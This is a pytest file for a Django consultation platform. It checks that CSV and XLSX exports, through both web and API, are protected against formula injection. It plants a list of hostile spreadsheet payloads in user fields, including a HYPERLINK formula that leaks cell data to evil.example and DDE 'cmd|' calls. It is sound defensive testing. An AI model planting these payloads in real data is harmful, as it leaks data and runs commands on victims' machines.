"""Formula (CSV) injection: every CSV and XLSX anyone can download, through the web and through
the API, is opened with the csv module or openpyxl and no cell may be a formula.

Hostile text is planted in every field a person can write that reaches an export (names of
registrants and users, organisations, contribution titles and bodies, plan titles, meeting
titles, live questions and options). Numbers must stay numbers (negative ones included).
"""

import csv
import io
import re
import zipfile
from itertools import cycle

import pytest
from django.contrib.auth.models import Permission
from django.core.cache import cache
from django.urls import reverse
from openpyxl import load_workbook

from consultazione.accounts.models import User
from consultazione.contributions.models import Contribution
from consultazione.live.models import Kind
from consultazione.live.services import QuestionSpec, question_close, question_create, question_open
from consultazione.live.services.questions import OptionSpec
from consultazione.meetings.models import Meeting, Registration
from consultazione.monitoring.tabular import SHEETS
from consultazione.plan.models import Action, Axis, Strategy
from consultazione.reports.exports.datasets import DATASETS
from consultazione.reports.models import ExportJob, ExportKind
from consultazione.stakeholders.models import Organisation

pytestmark = pytest.mark.django_db

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?d="&A1;"Clicca qui")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '   =HYPERLINK("http://evil.example")',
)
# Downloads whose rows show person-written text (the others hold counts and codes only).
MUST_CARRY_PAYLOAD = {
    "live results",
    "attendance",
    "priorities",
    "monitoring xlsx",
    "monitoring azioni",
    "export workbook ",
    "export csv contributions",
    "export csv registrations",
    "open data",
    "api export workbook ",
    "api export csv contributions",
    "api open data",
}
NUMBER = re.compile(r"\s*[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?\s*")


def _plant(world) -> None:
    """Hostile text in every person-written field that an export shows."""
    payload = cycle(PAYLOADS)
    for model, fields in [
        (Registration, ["first_name", "last_name", "organisation_name"]),
        (User, ["first_name", "last_name"]),
        (Organisation, ["name"]),
        (Contribution, ["title", "body"]),
        (Axis, ["title"]),
        (Strategy, ["title"]),
        (Action, ["title"]),
        (Meeting, ["title"]),
    ]:
        for pk in model.objects.values_list("pk", flat=True):
            model.objects.filter(pk=pk).update(**{field: f"{next(payload)} {pk}" for field in fields})  # unique
    facilitator = world.users["facilitator"]
    spec = QuestionSpec(
        kind=Kind.SINGLE, text=PAYLOADS[0], options=(OptionSpec(PAYLOADS[1]), OptionSpec(PAYLOADS[3]), OptionSpec("-5"))
    )
    question = question_open(user=facilitator, question=question_create(user=facilitator, session=world.session, spec=spec))
    question_close(user=facilitator, question=question)
    ExportJob.objects.filter(kind=ExportKind.OPEN_DATA).delete()  # rebuilt with the planted text


def _is_formula_text(text: str) -> bool:
    if NUMBER.fullmatch(text):
        return False
    return text.lstrip(" \n")[:1] in ("=", "+", "-", "@", "\t", "\r")


def _csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    dialect = csv.Sniffer().sniff(text.split("\n", 1)[0], delimiters=",;")
    return [cell for row in csv.reader(io.StringIO(text), dialect) for cell in row]


def _assert_csv_safe(name: str, content: bytes) -> list[str]:
    cells = _csv_cells(content)
    formulas = [cell for cell in cells if _is_formula_text(cell)]
    assert not formulas, f"{name}: cells a spreadsheet would run as formulas: {formulas[:5]}"
    return cells


def _assert_xlsx_safe(name: str, content: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{name} {sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if _is_formula_text(cell.value):
                        assert cell.quotePrefix, f"{name} {sheet.title}!{cell.coordinate}: text without quote prefix"
    return texts


def _assert_download_safe(name: str, response) -> list[str]:
    assert response.status_code == 200, (name, response.status_code)
    content = b"".join(response.streaming_content) if response.streaming else response.content
    disposition = response.get("Content-Disposition", "")
    if ".zip" in disposition:
        cells = []
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            for member in archive.namelist():
                if member.endswith(".csv"):
                    cells += _assert_csv_safe(f"{name}/{member}", archive.read(member))
        return cells
    if ".xlsx" in disposition:
        return _assert_xlsx_safe(name, content)
    assert ".csv" in disposition, (name, disposition)
    return _assert_csv_safe(name, content)


def _staff(world, client):
    staff = world.users["staff"]
    staff.user_permissions.add(Permission.objects.get(codename="export_personal_data"))
    client.force_login(User.objects.get(pk=staff.pk))
    return client


def _web_downloads(world, client) -> dict:
    slug = world.process.slug
    plan = world.plan.slug
    downloads = {}
    client.force_login(world.users["facilitator"])
    downloads["live results"] = client.get(reverse("live:results_csv", kwargs={"code": world.session.code}))
    _staff(world, client)
    downloads["attendance"] = client.get(reverse("meetings:attendance_export", args=[world.meeting.slug]))
    downloads["priorities"] = client.get(reverse("voting:results_csv", args=[world.exercise.pk]))
    downloads["monitoring xlsx"] = client.get(reverse("monitoring:export", kwargs={"slug": plan, "fmt": "xlsx"}))
    for sheet in SHEETS:
        url = reverse("monitoring:export", kwargs={"slug": plan, "fmt": "csv"})
        downloads[f"monitoring {sheet}"] = client.get(url, {"foglio": sheet})
    requests = [("workbook", "")] + [("csv", key) for key in DATASETS]
    for kind, dataset in requests:
        data = {"kind": kind, "dataset": dataset, "personal_data": "on"}
        response = client.post(reverse("reports:exports", kwargs={"slug": slug}), data)
        assert response.status_code == 302, response.content.decode()[:500]
        job = ExportJob.objects.filter(requested_by=world.users["staff"]).latest("pk")
        downloads[f"export {kind} {dataset}"] = client.get(reverse("reports:job_download", kwargs={"pk": job.pk}))
    client.logout()
    downloads["open data"] = client.get(reverse("reports:open_data_package", kwargs={"slug": slug}))
    return downloads


def _api_downloads(world, client) -> dict:
    downloads = {}
    _staff(world, client)
    for kind, dataset in [("workbook", "")] + [("csv", key) for key in DATASETS]:
        body = {"process": world.process.slug, "kind": kind, "dataset": dataset, "personal_data": True}
        response = client.post("/api/v1/export-jobs/", body, content_type="application/json")
        assert response.status_code == 202, response.content
        downloads[f"api export {kind} {dataset}"] = client.get(response.json()["download_url"])
    client.logout()
    response = client.get(f"/api/v1/open-data/{world.process.slug}/package/")
    assert response.status_code == 200, response.content
    downloads["api open data"] = client.get(response.json()["download_url"])
    return downloads


@pytest.mark.parametrize("door", ["web", "api"])
def test_no_export_cell_is_a_formula(world, client, door):
    cache.clear()  # export rate limit
    _plant(world)
    downloads = _web_downloads(world, client) if door == "web" else _api_downloads(world, client)
    for name, response in downloads.items():
        texts = _assert_download_safe(name, response)
        if name in MUST_CARRY_PAYLOAD:
            planted = [text for text in texts if "HYPERLINK" in text or "cmd|" in text or "SUM(" in text]
            assert planted, f"{name}: the planted text did not reach the file, the walk proves nothing"


def test_numbers_stay_numbers(world, client):
    """A negative figure is still a number in the CSV (live option "-5") and in the workbook."""
    _plant(world)
    client.force_login(world.users["facilitator"])
    cells = _csv_cells(client.get(reverse("live:results_csv", kwargs={"code": world.session.code})).content)
    assert "-5" in cells and "'-5" not in cells
    assert "'" + PAYLOADS[1] in cells
